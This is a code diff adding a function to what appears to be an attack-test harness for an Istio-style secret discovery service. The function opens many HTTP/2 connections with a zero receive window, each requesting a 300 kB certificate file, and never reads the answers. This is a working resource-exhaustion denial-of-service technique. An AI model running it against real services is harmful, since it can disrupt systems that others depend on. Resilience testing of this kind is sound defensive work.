@@ -388,3 +388,24 @@ def large_files(world, size):
     for conn in kept:
         conn.close()
     (world.dir / "large.pem").unlink()
+
+
+@attack("SDS large roots unread", "thousands of streams that ask for a file of 300 kB and take no answer", short=False)
+def unread_roots(world, size):
+    root, file = (world.dir / "var/run/secrets/istio/root-cert.pem").read_bytes(), world.dir / "roots.pem"
+    file.write_bytes(root * (300_000 // len(root)))
+    os.chmod(file, 0o644)
+    ask, end, kept = h2.secrets(b"file-root:" + bytes(file)), time.monotonic() + size.seconds, []
+    while time.monotonic() < end:
+        try:
+            if len(kept) < 40:
+                # No byte may be sent.
+                kept.append(Conn(world.dir / SDS, settings=b"\0\x04\0\0\0\0", timeout=1))
+                for s in itertools.islice(ids(), 90):
+                    kept[-1].send(frame(HEADERS, END_HEADERS, s, request(PATHS[SDS])), frame(DATA, 0, s, ask))
+        except OSError:
+            pass
+        time.sleep(0.05)
+    for conn in kept:
+        conn.close()
+    file.unlink()
